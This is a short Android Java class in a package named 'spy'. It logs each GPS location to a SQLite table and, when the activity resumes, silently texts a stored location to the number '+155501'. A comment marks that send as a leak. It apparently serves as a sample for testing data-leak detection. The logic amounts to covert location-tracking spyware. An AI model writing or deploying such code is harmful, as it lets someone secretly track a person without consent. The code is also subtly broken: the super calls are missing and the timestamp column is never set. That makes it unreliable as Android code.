package spy;

import android.app.Activity;
import android.content.ContentValues;
import android.content.Context;
import android.database.Cursor;
import android.database.sqlite.SQLiteDatabase;
import android.database.sqlite.SQLiteOpenHelper;
import android.location.Location;
import android.location.LocationListener;
import android.location.LocationManager;
import android.os.Bundle;
import android.telephony.SmsManager;

/** Where the phone was, row by row, until someone asks. */
public class TableCarrier extends Activity implements LocationListener {
    static class Store extends SQLiteOpenHelper {
        Store(Context context) {
            super(context, "track.db", null, 1);
        }

        @Override
        public void onCreate(SQLiteDatabase db) {
            db.execSQL("create table track (at text, place text)");
        }

        void add(String place) {
            ContentValues row = new ContentValues();
            row.put("place", place);
            getWritableDatabase().insert("track", null, row);
        }

        String last() {
            Cursor cursor = getReadableDatabase().rawQuery("select place from track order by at", null);
            return cursor.moveToFirst() ? cursor.getString(0) : "";
        }
    }

    private Store store;

    @Override
    protected void onCreate(Bundle state) {
        store = new Store(this);
        ((LocationManager) getSystemService("location")).requestLocationUpdates("gps", 0, 0, this);
    }

    public void onLocationChanged(Location location) {
        store.add(location.getLatitude() + "," + location.getLongitude());
    }

    @Override
    protected void onResume() {
        SmsManager.getDefault().sendTextMessage("+155501", null, store.last(), null, null); // leak
    }

    public void onStatusChanged(String provider, int status, Bundle extras) {}

    public void onProviderEnabled(String provider) {}

    public void onProviderDisabled(String provider) {}
}
